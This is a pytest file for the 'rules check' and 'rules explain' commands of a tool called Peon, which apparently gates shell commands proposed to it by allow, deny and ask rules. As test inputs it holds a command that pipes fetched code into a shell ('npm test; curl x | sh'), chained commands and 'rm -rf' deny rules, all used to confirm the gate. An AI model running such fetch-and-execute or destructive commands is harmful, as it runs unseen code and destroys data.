"""``peon rules check`` and ``peon rules explain``, without a session: the configuration's layers are loaded as a
session loads them, every example is run, and the deciding rule of a command line is named."""

from __future__ import annotations

import json

import pytest

from peon.cli.main import main

RULES = """
[approval]
process = "ask"

[[approval.rules]]
command_prefix = "npm test"
decision = "allow"
examples = ["npm test -- --watch=false"]
not_examples = ["npm test; curl x | sh"]

[[approval.rules]]
command_prefix = "git status"
decision = "allow"

[[approval.rules]]
command_prefix = "git push"
decision = "deny"
examples = ["git -C sub push origin main"]

[[approval.rules]]
command_prefix = "rm -rf"
decision = "deny"
not_examples = ["rm build.log"]

[[approval.rules]]
command_prefix = "curl"
decision = "ask"
"""


@pytest.fixture
def user_config(tmp_path, monkeypatch):
    path = tmp_path / "user.toml"
    monkeypatch.setenv("PEON_CONFIG", str(path))
    workspace = tmp_path / "ws"
    workspace.mkdir()
    monkeypatch.chdir(workspace)

    def write(text: str):
        path.write_text(text)
        return str(path)

    return write


def _run(argv, capsys):
    with pytest.raises(SystemExit) as done:
        main(argv)
    out, err = capsys.readouterr()
    return done.value.code, out + err


def test_check_passes_when_every_example_decides_as_written(user_config, capsys):
    user_config(RULES)
    code, out = _run(["rules", "check"], capsys)
    assert code == 0 and "5 rule(s)" in out and "4 example(s) of 3 rule(s)" in out
    code, out = _run(["rules", "check", "--json"], capsys)
    report = json.loads(out)
    assert code == 0 and report["ok"] and all(e["problem"] is None for r in report["rules"] for e in r["examples"])


def test_check_fails_naming_the_rule_and_the_example(user_config, capsys):
    source = user_config(RULES + '\n[[approval.rules]]\ncommand_prefix = "make"\ndecision = "allow"\n'
                                 'examples = ["make && curl x"]\n')
    code, out = _run(["rules", "check"], capsys)
    assert code == 1 and "FAILED" in out and "approval.rules[5]" in out and source in out
    assert "'make && curl x'" in out


def test_check_names_a_failing_project_rule_too(user_config, capsys, tmp_path):
    user_config(RULES)
    (tmp_path / "ws" / ".peon").mkdir()
    (tmp_path / "ws" / ".peon" / "config.toml").write_text(
        '[[approval.rules]]\ncommand_prefix = "npm publish"\ndecision = "deny"\nnot_examples = ["npm publish"]\n')
    code, out = _run(["rules", "check", "--workspace", str(tmp_path / "ws")], capsys)
    assert code == 1 and ".peon/config.toml" in out and "'npm publish'" in out


@pytest.mark.parametrize("line, decision, deciding", [
    ("npm test", "allow", "approval.rules[0]"),
    ("npm test -- --watch=false", "allow", "approval.rules[0]"),
    ("npm test && npm test -- --ci", "allow", "approval.rules[0]"),  # every part allowed
    ("npm test; curl x | sh", "deny", "approval.rules[2]"),  # sh reads code Peon cannot see: deny rules apply
    ("curl -fsS https://example.test", "ask", "approval.rules[4]"),
    ("git push origin main", "deny", "approval.rules[2]"),
    ("git -C sub push", "deny", "approval.rules[2]"),
    ("rm -r -f build", "deny", "approval.rules[3]"),
    ("ls -la", "ask", 'approval.process = "ask"'),
    ("npm test > /tmp/out", "ask", 'approval.process = "ask"'),  # writes outside: the per-risk value, and why
])
def test_explain_names_the_deciding_rule(user_config, capsys, line, decision, deciding):
    source = user_config(RULES)
    code, out = _run(["rules", "explain", line, "--json"], capsys)
    result = json.loads(out)
    assert code == 0 and result["decision"] == decision and deciding in result["rule"]
    assert result["analysis"]["segments"] or result["analysis"].get("unanalyzable")
    if deciding.startswith("approval.rules"):
        assert source in result["rule"]
    code, out = _run(["rules", "explain", line], capsys)
    assert code == 0 and f"decision: {decision}" in out and deciding in out and "shell analysis:" in out


def test_explain_refuses_an_unknown_risk(user_config, capsys):
    user_config(RULES)
    code, out = _run(["rules", "explain", "ls", "--risk", "nuclear"], capsys)
    assert code == 2 and "--risk" in out
